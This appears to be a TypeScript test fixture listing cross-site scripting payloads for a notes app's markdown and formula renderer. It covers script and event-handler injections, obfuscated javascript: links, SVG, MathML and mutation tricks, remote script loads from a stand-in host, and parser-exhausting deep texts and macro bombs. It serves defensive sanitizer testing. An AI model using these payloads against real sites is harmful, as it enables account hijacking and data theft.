/** What a hostile text may hold. Each payload, should it run, calls `trip` (support of notes-xss.spec.ts) or leaves the host. */
export interface Vector {
  readonly group: string;
  readonly name: string;
  readonly text: string;
}

/** Nothing listens there, and no request may ever try. */
export const ELSEWHERE = 'https://elsewhere.example';

const NUL = '\0';
const TAB = '\t';
const SOH = '\u0001';
const ZWSP = '\u200b';
const ZWJ = '\u200d';
const BOM = '\ufeff';
const RLO = '\u202e';
const PDI = '\u2069';
const LRI = '\u2066';
const NBSP = '\u00a0';
const SOFT_HYPHEN = '\u00ad';
const LINE_SEPARATOR = '\u2028';

const IMG = '<img src=x onerror=trip()>';
const SVG_DATA = `data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="trip()"/>')}`;
const HTML_DATA = `data:text/html;base64,${btoa('<script>opener.trip()</script>')}`;

const GROUPS: Record<string, Record<string, string>> = {
  script: {
    plain: '<script>trip()</script>',
    mixedCase: '<ScRiPt>trip()</sCrIpT>',
    remote: `<script src=${ELSEWHERE}/x.js></script>`,
    protocolRelative: '<script src=//elsewhere.example/x.js></script>',
    module: `<script type="module">import '${ELSEWHERE}/x.js'</script>`,
    unclosed: '<script>trip()//',
    slash: '<script/x>trip()</script>',
    doubled: '<scr<script>ipt>trip()</scr</script>ipt>',
    inSvg: '<svg><script>trip()</script></svg>',
    afterClosing: '</p></div></article><script>trip()</script>',
    dataSource: '<script src="data:text/javascript,trip()"></script>',
  },
  handler: {
    imageError: IMG,
    imageUnclosed: '<img src=x onerror=trip()//',
    imageSlashes: '<img/src=x/onerror=trip()>',
    imageNewline: '<img src=x\nonerror\n=\ntrip()>',
    imageBackquote: '<img src=`x` onerror=trip()>',
    imageEntities: '<img src=x onerror="&#116;rip()">',
    imageQuoteBreak: '<img alt="x" src="x" "onerror=trip()>',
    bodyLoad: '<body onload=trip()>',
    inputFocus: '<input autofocus onfocus=trip()>',
    detailsToggle: '<details open ontoggle=trip()><summary>x</summary></details>',
    videoError: '<video><source onerror=trip()></video>',
    audio: '<audio src=x onerror=trip()>',
    marquee: '<marquee onstart=trip()>x</marquee>',
    animation: '<p style="animation:spin 1s" onanimationstart=trip()>x</p>',
    pointer: '<p onpointerover=trip() onmouseover=trip() onclick=trip()>x</p>',
    popover: '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=trip()>x</p>',
    contentVisibility: '<p oncontentvisibilityautostatechange=trip() style=content-visibility:auto>x</p>',
    select: '<select autofocus onfocus=trip()><option>x</select>',
  },
  address: {
    javascript: '[x](javascript:trip())',
    angle: '[x](<javascript:trip()>)',
    mixedCase: '[x](JaVaScRiPt:trip())',
    entity: '[x](&#106;avascript:trip())',
    entityHex: '[x](&#x6A;avascript&#x3A;trip())',
    entityColon: '[x](javascript&colon;trip())',
    entityTwice: '[x](javascript&amp;colon;trip())',
    entityTab: '[x](java&Tab;script:trip())',
    entityNewline: '[x](java&NewLine;script:trip())',
    tab: `[x](<java${TAB}script:trip()>)`,
    newline: '[x](java\nscript:trip())',
    control: `[x](${SOH}javascript:trip())`,
    zeroWidth: `[x](java${ZWSP}script:trip())`,
    softHyphen: `[x](java${SOFT_HYPHEN}script:trip())`,
    noBreakSpace: `[x](${NBSP}javascript:trip())`,
    lineSeparator: `[x](<${LINE_SEPARATOR}javascript:trip()>)`,
    fullWidth: '[x](ｊａｖａｓｃｒｉｐｔ：trip())',
    fullWidthColon: '[x](javascript：trip())',
    percent: '[x](javascript%3Atrip())',
    comment: '[x](javascript://%0Atrip())',
    escaped: '[x](javascript\\:trip())',
    data: `[x](${HTML_DATA})`,
    dataPlain: '[x](data:text/html,<script>trip()</script>)',
    vbscript: '[x](vbscript:trip())',
    file: '[x](file:///etc/passwd)',
    blob: '[x](blob:https://elsewhere.example/x)',
    viewSource: '[x](view-source:javascript:trip())',
    feed: '[x](feed:javascript:trip())',
    protocolRelative: '[x](//elsewhere.example/x)',
    backslashes: '[x](\\\\\\\\elsewhere.example/x)',
    htmlLink: '<a href="javascript:trip()">x</a>',
    htmlEntities: '<a href="&#x6a;&#x61;vascript:trip()">x</a>',
    htmlControl: `<a href="${SOH} java${TAB}script:trip()">x</a>`,
    htmlTarget: `<a href="${ELSEWHERE}/x" target=_blank rel=opener>x</a>`,
    htmlDownload: `<a href="${HTML_DATA}" download ping="${ELSEWHERE}/ping">x</a>`,
    form: '<form action="javascript:trip()"><button>x</button></form>',
    formAction: '<form id=f></form><button form=f formaction=javascript:trip()>x</button>',
    base: `<base href="${ELSEWHERE}/">`,
    refresh: '<meta http-equiv=refresh content="0;url=javascript:trip()">',
    refreshElsewhere: `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/x">`,
  },
  frame: {
    iframe: '<iframe src=javascript:trip()></iframe>',
    srcdoc: '<iframe srcdoc="<script>parent.trip()</script>"></iframe>',
    object: '<object data=javascript:trip()></object>',
    objectData: `<object type=text/html data="${HTML_DATA}"></object>`,
    embed: '<embed src=javascript:trip()>',
    frameset: '<frameset onload=trip()><frame src=x></frameset>',
    portal: `<portal src=${ELSEWHERE}/x></portal><fencedframe></fencedframe>`,
  },
  svg: {
    load: '<svg onload=trip()>',
    loadSlash: '<svg/onload=trip()>',
    link: '<svg><a xlink:href="javascript:trip()"><text y=20>x</text></a></svg>',
    animate: '<svg><animate onbegin=trip() attributeName=x dur=1s>',
    setLink: '<svg><a><set attributeName=href to=javascript:trip() /><text y=20>x</text></a></svg>',
    foreign: `<svg><foreignObject>${IMG}</foreignObject></svg>`,
    use: `<svg><use href="${SVG_DATA}#x"/></svg>`,
    image: `<svg><image href="${ELSEWHERE}/x.png" onerror=trip() /></svg>`,
    desc: `<svg><desc><![CDATA[</desc>${IMG}]]></svg>`,
    markdownImage: `![x](${SVG_DATA})`,
  },
  mathml: {
    link: '<math><mtext href="javascript:trip()">x</mtext></math>',
    action: '<math><maction actiontype="statusline#x" xlink:href="javascript:trip()">x</maction></math>',
    annotation: `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
    glyph: '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=trip()&gt;">',
  },
  mutation: {
    noscript: '<noscript><p title="</noscript><img src=x onerror=trip()>">',
    style: '<style><img src="</style><img src=x onerror=trip()//">',
    title: '<title><p title="</title><img src=x onerror=trip()>">',
    textarea: '<textarea><p title="</textarea><img src=x onerror=trip()>">',
    xmp: '<xmp><p title="</xmp><img src=x onerror=trip()>">',
    noembed: '<noembed><p title="</noembed><img src=x onerror=trip()>">',
    plaintext: `<plaintext>${IMG}`,
    template: `<template><p>x</p>${IMG}</template>`,
    shadow: `<div><template shadowrootmode=open>${IMG}</template></div>`,
    nestedForms:
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=trip()></style></mglyph></form>',
    tableMath:
      '<math><mtext><table><mglyph><style><math>CLICKME</mtext></table><img src=x onerror=trip()></style>',
    svgStyle: '<svg></p><style><a id="</style><img src=1 onerror=trip()>">',
    mathComment: '<math><!--</math><img src=x onerror=trip()>-->',
    comment: '<!--><img src=x onerror=trip()>-->',
    commentBang: '<!--x--!><img src=x onerror=trip()>-->',
    conditional: '<![if gte mso 9]><img src=x onerror=trip()><![endif]>',
    cdata: `<![CDATA[><img src=x onerror=trip()>]]>`,
    processing: '<?xml ><img src=x onerror=trip()> ?>',
    backquotes: '<img alt="`x` onerror=trip() ``">',
    innerTable: '<table><td background="javascript:trip()"><tr><p title=">"style="x:y"onclick=trip()>x',
    isindex: '<isindex type=image src=1 onerror=trip()>',
    custom: `<x-y is="script">${IMG}</x-y>`,
    quotedStyle: '<p title=">" style="background:url(https://elsewhere.example/x.png)">x</p>',
    styleImport: `<style>@import "${ELSEWHERE}/x.css"; * { display: none }</style>`,
    stylesheet: `<link rel=stylesheet href=${ELSEWHERE}/x.css>`,
    prefetch: `<link rel=prefetch href=${ELSEWHERE}/x><link rel=dns-prefetch href=//elsewhere.example>`,
  },
  markdown: {
    linkTitle: `[x](https://example.com "x\\" onclick=\\"trip()")`,
    linkTitleTag: `[x](https://example.com '"><img src=x onerror=trip()>')`,
    addressBreak: '[x](https://example.com"onclick="trip())',
    addressTag: '[x](<https://example.com/"><script>trip()</script>>)',
    labelTag: `[${IMG}](https://example.com)`,
    reference: '[x][r1]\n\n[r1]: javascript:trip() "t"',
    referenceEntity: '[r2]\n\n[r2]: <java&Tab;script:trip()>',
    referencePrototype: '[__proto__]\n\n[__proto__]: javascript:trip()\n\n[constructor]',
    footnote: `x[^1]\n\n[^1]: <script>trip()</script>`,
    autolink: '<javascript:trip()>',
    autolinkData: '<data:text/html,trip()>',
    autolinkMail: `<x@elsewhere.example"onclick="trip()>`,
    bareAddress: `${ELSEWHERE}/"onmouseover="trip()`,
    imageScheme: '![x](javascript:trip())',
    imageElsewhere: `![x](${ELSEWHERE}/pixel.png)`,
    imageProtocolRelative: '![x](//elsewhere.example/pixel.png)',
    imageClimb: '![x](/api/images/../auth/logout)',
    imageUser: `![x](http://127.0.0.1@elsewhere.example/api/images/x.png)`,
    imageQuote: '![x"onerror="trip()](/api/images/x"onerror="trip().png)',
    imageLink: `[![x](${ELSEWHERE}/pixel.png)](javascript:trip())`,
    fence: '```"><img src=x onerror=trip()>\nx\n```',
    fenceTag: '```<script>\ntrip()\n```',
    fenceClose: '```\n</code></pre><img src=x onerror=trip()>\n```',
    inlineCode: '`</code><img src=x onerror=trip()>`',
    table: `| ${IMG} | [x](javascript:trip()) |\n|:-:|---|\n| <script>trip()</script> | \`</td>${IMG}\` |`,
    task: `- [x] ${IMG}\n- [ ] [x](javascript:trip())`,
    headingTag: `## ${IMG} x`,
    headingPrototype: '## __proto__\n\n## constructor\n\n## toString',
    headingClobber: '## getElementById\n\n## cookie\n\n## body\n\n## location\n\n## trip',
    entities: '&lt;img src=x onerror=trip()&gt; &#60;script&#62;trip()&#60;/script&#62;',
    escapes: '\\<img src=x onerror=trip()\\>',
    underline: '<u onclick=trip()>x</u> <u>x<img src=x onerror=trip()></u> <u/onclick=trip()>',
    lineBreak: '<br onload=trip()> x<br/onclick=trip()><br><script>trip()</script>',
    quoteInList: `> - > 1. ${IMG}`,
    prototypeHtml: '<form id=__proto__><input name=body><img name=getElementById><a id=trip name=cookie>',
  },
  formula: {
    href: '$\\href{javascript:trip()}{x}$',
    url: '$\\url{javascript:trip()}$',
    htmlClass: '$\\htmlClass{fixed inset-0}{x}$',
    htmlStyle: '$\\htmlStyle{background:url(https://elsewhere.example/x.png)}{x}$',
    htmlData: '$\\htmlData{x=y}{x} \\htmlId{trip}{x}$',
    includegraphics: `$\\includegraphics[height=1em]{${ELSEWHERE}/x.png}$`,
    tag: '$<img src=x onerror=trip()>$',
    text: '$\\text{</span><img src=x onerror=trip()>}$',
    macros:
      '$$\n\\def\\a{\\b\\b\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d\\d\\d}\\def\\d{xxxxxxxx}\\a\n$$',
    endless: '$\\def\\x{\\x\\x}\\x$',
    huge: '$\\rule{99999em}{99999em}$',
    unbalanced: '$\\frac{{{{{$',
  },
  unseen: {
    nul: `<img src=x one${NUL}rror=trip()>`,
    nulTag: `<scr${NUL}ipt>trip()</script>`,
    nulAddress: `[x](java${NUL}script:trip())`,
    zeroWidthTag: `<scr${ZWSP}ipt>trip()</scr${ZWJ}ipt>`,
    byteOrder: `${BOM}<script>trip()</script>`,
    override: `${RLO}<img src=x onerror=trip()>${LRI}x${PDI}`,
    overrideLink: `[${RLO}moc.elpmaxe](javascript:trip())`,
    loneSurrogate: `\ud800<img src=x onerror=trip()>\udc00`,
    halfWidthBrackets: '＜script＞trip()＜/script＞ ‹img src=x onerror=trip()›',
    longCombining: `x${'\u0301'.repeat(500)}<img src=x onerror=trip()>`,
  },
};

export const VECTORS: readonly Vector[] = Object.entries(GROUPS).flatMap(([group, vectors]) =>
  Object.entries(vectors).map(([name, text]) => ({ group, name: `${group}: ${name}`, text })),
);

/** The first of each group and a few of which no two are alike. */
const ALSO = [
  'address: entityTab',
  'mutation: quotedStyle',
  'markdown: headingClobber',
  'markdown: table',
  'markdown: imageElsewhere',
  'markdown: fence',
  'formula: includegraphics',
];
export const SAMPLE_VECTORS: readonly Vector[] = VECTORS.filter(
  ({ group, name }, index) => VECTORS[index - 1]?.group !== group || ALSO.includes(name),
);

/** Each is a text of its own: too deep for a parser that trusts what it is given. */
export const DEEP_TEXTS: Readonly<Record<string, string>> = {
  quotes: '>'.repeat(10_000),
  brackets: `${'['.repeat(10_000)}x`,
  links: `${'['.repeat(5_000)}x${'](y)'.repeat(5_000)}`,
  stars: `${'*'.repeat(10_000)}x${'*'.repeat(10_000)}`,
  starsApart: '*a '.repeat(10_000),
  lists: `${'- '.repeat(10_000)}x`,
  images: '!['.repeat(10_000),
  underlines: `${'<u>'.repeat(10_000)}x`,
  dollars: `$x${'$'.repeat(10_000)}`,
  formulas: '$x$ '.repeat(500),
  backquotes: Array.from({ length: 400 }, (_, length) => '`'.repeat(length)).join('x'),
};

/** As a note or a card may hold them: what the server would refuse is not in them. */
export const STORABLE_SAMPLE: readonly string[] = SAMPLE_VECTORS.map(({ text }) =>
  text.replaceAll('\0', '').replace(/\p{Surrogate}/gu, '\ufffd'),
);
